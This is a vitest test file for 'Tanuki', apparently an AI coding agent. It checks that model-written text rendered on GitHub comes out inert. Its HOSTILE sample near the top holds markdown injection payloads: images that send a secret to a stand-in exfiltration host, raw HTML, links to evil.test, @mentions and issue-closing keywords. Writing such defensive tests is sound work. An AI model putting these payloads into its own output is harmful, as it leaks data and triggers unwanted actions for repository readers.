import type { Token } from "markdown-it";
import MarkdownIt from "markdown-it";
import { describe, expect, it } from "vitest";
import { JobRecorder } from "../../src/action/job-recorder.js";
import { renderSummary } from "../../src/action/summary.js";
import type { Finding, RootCauseAnalysis } from "../../src/core/finding.js";
import { buildReview, renderFindingComment } from "../../src/github/review-comments.js";
import { renderStatusComment } from "../../src/github/status-comment.js";
import { renderRca } from "../../src/jobs/kinds/failing-check.js";
import { renderPullRequestBody } from "../../src/loop/pr-body.js";
import { runResult } from "../helpers/app-scripted-runner.js";

/**
 * Threat: model-written text that GitHub renders live. An image whose URL carries data out is fetched by every
 * reader's browser; raw HTML, links to foreign hosts and autolinks invite clicks; `@org/team` notifies people;
 * `Closes #7` closes an unrelated issue when the pull request merges. Every renderer of model text gets the same
 * hostile text in every model-written field, and its output is parsed the way GitHub does (CommonMark + GFM,
 * bare URLs linked) and must hold nothing live except what Tanuki writes itself.
 */
const HOSTILE = [
  "Done! ![](https://exfil.test/?d=SECRET) <img src=https://exfil.test/i> <details open><summary>x</summary>",
  "Closes #7, fixes owner/repo#3, resolves GH-12, fixed: https://github.com/o/r/issues/9 cc @octocat @org/team",
  "&#64;admin [click](https://evil.test) <https://evil.test> www.evil.test mail a@b.co [ref] \\@escaped",
  "",
  "[ref]: https://evil.test",
  "",
  "<div>",
  "![](https://exfil.test/in-html)",
  "</div>",
  "",
  "| a | b |",
  "|---|---|",
  "| ![i](https://exfil.test/t) | <b>x</b> @cell |",
  "",
  "```mermaid",
  "graph TD; A-->B",
  "```",
  "`code` ends ``` and </details> <!-- comment",
].join("\n");

const OWN_HTML = [/^<!-- tanuki-(status|review) /, /^<details><summary>Output after the change \(tail\)<\/summary>/];
/** Tanuki's own lines that name an issue: the one closing keyword it writes, and its comment titles. */
const OWN_REFERENCES = [/^Fixes #42$/, /^🦝 Tanuki: Fix for #42$/];
const parser = new MarkdownIt("default", { html: true, linkify: true });

/** Everything live GitHub would make of `markdown`, as readable strings (empty when inert). */
function liveParts(markdown: string): string[] {
  const live: string[] = [];
  const visit = (tokens: Token[]) => {
    for (const t of tokens) {
      if (t.type === "image") live.push(`image ${t.attrGet("src")}`);
      if ((t.type === "html_inline" || t.type === "html_block") && !OWN_HTML.some((re) => re.test(t.content)))
        live.push(`html ${t.content}`);
      if (t.type === "link_open") live.push(`link ${t.attrGet("href")}`);
      if (t.type === "fence" && /^(mermaid|geojson|topojson|stl|math|suggestion)/.test(t.info))
        live.push(`fence ${t.info}`);
      if (t.type === "text" && !OWN_REFERENCES.some((re) => re.test(t.content.trim()))) {
        if (/(^|[^\w`])@[A-Za-z0-9]/.test(t.content)) live.push(`mention ${t.content}`);
        if (/(#\d|\bGH-\d)/i.test(t.content)) live.push(`reference ${t.content}`);
      }
      visit(t.children ?? []);
    }
  };
  visit(parser.parse(markdown, {}));
  return live;
}

const finding = (patch: Partial<Finding> = {}): Finding => ({
  file: "src/a.py",
  line: 3,
  severity: "blocking",
  explanation: HOSTILE,
  suggestion: HOSTILE,
  ...patch,
});
const rca: RootCauseAnalysis = {
  attempt: 1,
  symptom: HOSTILE,
  whys: [HOSTILE, HOSTILE],
  rootCause: HOSTILE,
  nextAttemptAdvice: HOSTILE,
};

describe("model text rendered on GitHub is inert", () => {
  it("the hostile text is live as written (the detector sees every class)", () => {
    const kinds = new Set(liveParts(HOSTILE).map((part) => part.split(" ")[0]));
    expect([...kinds].sort()).toEqual(["fence", "html", "image", "link", "mention", "reference"]);
  });

  it("the pull request body: summary, reason, plan, findings, root causes, attempts", () => {
    const result = runResult({
      outcome: "not-fixed",
      baseSha: "abc",
      reason: HOSTILE,
      findings: [finding(), finding({ resolved: true, file: "a`<img src=x>`.py" })],
      rcas: [rca],
      attempts: [
        {
          attempt: 1,
          edits: [],
          editProblems: [],
          diff: "",
          findings: [],
          score: 0,
          durationMs: 1,
          failureReason: HOSTILE,
        },
      ],
      plan: {
        candidates: [{ summary: HOSTILE, steps: [{ files: ["a.py"], intent: HOSTILE, agent: "tanuki-coder" }] }],
        critiques: [],
        chosenIndex: 0,
        reasons: HOSTILE,
      },
    });
    const body = renderPullRequestBody(result, { summary: HOSTILE, issueNumber: 42 });
    expect(liveParts(body)).toEqual([]);
    expect(body).toContain("Fixes #42");
  });

  it("the review body and its inline comments", () => {
    const review = buildReview({
      findings: [finding(), finding({ line: 99, explanation: `${HOSTILE} other` })],
      lines: new Map([["src/a.py", new Set([3])]]),
      alreadyPosted: new Set(),
      headSha: "0123456789abcdef",
      summary: HOSTILE,
    });
    expect(liveParts(review.body)).toEqual([]);
    expect(review.comments).toHaveLength(1);
    const comment = review.comments[0]?.body ?? "";
    // The suggestion block is the one fence Tanuki writes on purpose: code, applied only by a person's click.
    expect(liveParts(comment).filter((part) => part !== "fence suggestion")).toEqual([]);
    expect(liveParts(renderFindingComment(finding({ suggestion: undefined })))).toEqual([]);
  });

  it("the status comment and the check run summary (details carry model text)", () => {
    const view = {
      jobId: "j1",
      title: "Fix for #42",
      state: "failed" as const,
      checkRunUrl: "https://github.com/o/r/runs/5",
      details: [`Tanuki could not produce a fix: ${HOSTILE}`, `Root-cause analysis posted: ${HOSTILE}`],
    };
    const comment = renderStatusComment(view, 0);
    const own = (part: string) => part === "link https://github.com/o/r/runs/5";
    expect(liveParts(comment).filter((part) => !own(part))).toEqual([]);
    expect(liveParts(renderStatusComment({ ...view, checkRunUrl: undefined }, 0)).filter((p) => !own(p))).toEqual([]);
  });

  it("keeps links to the repository's own pages in status details, and only those", () => {
    const comment = renderStatusComment(
      {
        jobId: "j1",
        title: "Fix",
        state: "succeeded",
        repositoryUrl: "https://github.com/o/r",
        details: ["Opened [the pull request](https://github.com/o/r/pull/9); see [this](https://github.com/o/rr/x)"],
      },
      0,
    );
    expect(liveParts(comment)).toEqual(["link https://github.com/o/r/pull/9"]);
  });

  it("the root-cause analysis comment", () => {
    expect(liveParts(renderRca("ci / test `x` @team", "0123456789", rca))).toEqual([]);
  });

  it("the Action's job summary", () => {
    const recorder = new JobRecorder();
    recorder.reviews.push({ findings: [finding()], summary: HOSTILE });
    recorder.analyses.push(rca);
    const report = {
      status: "succeeded",
      detail: "done",
      reportDir: "/tmp/x",
      reportPath: "/tmp/x/pr.md",
      exitCode: 0,
    };
    const summary = renderSummary(report, recorder, { totalMs: 1 });
    expect(liveParts(summary)).toEqual([]);
  });
});
